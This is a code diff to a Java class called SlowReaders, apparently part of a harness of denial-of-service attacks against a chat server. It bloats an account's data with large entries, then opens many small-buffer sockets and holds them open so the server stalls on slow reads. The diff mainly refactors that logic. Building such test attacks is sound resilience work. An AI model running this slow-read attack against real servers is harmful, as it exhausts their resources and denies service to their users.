@@ -5,6 +5,7 @@ import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.concurrent.CountDownLatch;
 import org.bongsu.client.Http;
 import org.bongsu.json.Json;
 import tools.jackson.databind.node.ObjectNode;
@@ -34,11 +35,8 @@ final class SlowReaders implements Attack {
     Target.Account attacker = target.register("reader");
     String filling = "a".repeat(PIECE_BYTES);
     for (int i = 0; i < PIECES; i++) {
-      String path =
-          "%s/user/%s/account_data/org.example.%d"
-              .formatted(Http.CLIENT, Http.encode(attacker.userId()), i);
       ObjectNode piece = Json.object().put("filling", filling);
-      target.expect("PUT", path, attacker.token(), piece);
+      target.expect(Target.accountData(attacker, "org.example." + i, piece));
     }
     return () -> hold(target, attacker);
   }
@@ -51,14 +49,13 @@ final class SlowReaders implements Attack {
             .getBytes(StandardCharsets.US_ASCII);
     List<Socket> open = new ArrayList<>();
     try {
-      while (true) {
-        if (open.size() < CONNECTIONS) {
-          Socket socket = target.connect(RECEIVE_BUFFER_BYTES);
-          open.add(socket);
-          socket.getOutputStream().write(request);
-        }
-        Thread.sleep(open.size() < CONNECTIONS ? 5 : 100);
+      for (int i = 0; i < CONNECTIONS; i++) {
+        Socket socket = target.connect(RECEIVE_BUFFER_BYTES);
+        open.add(socket);
+        socket.getOutputStream().write(request);
+        Thread.sleep(5);
       }
+      new CountDownLatch(1).await(); // until it is interrupted
     } finally {
       for (Socket socket : open) {
         socket.close();
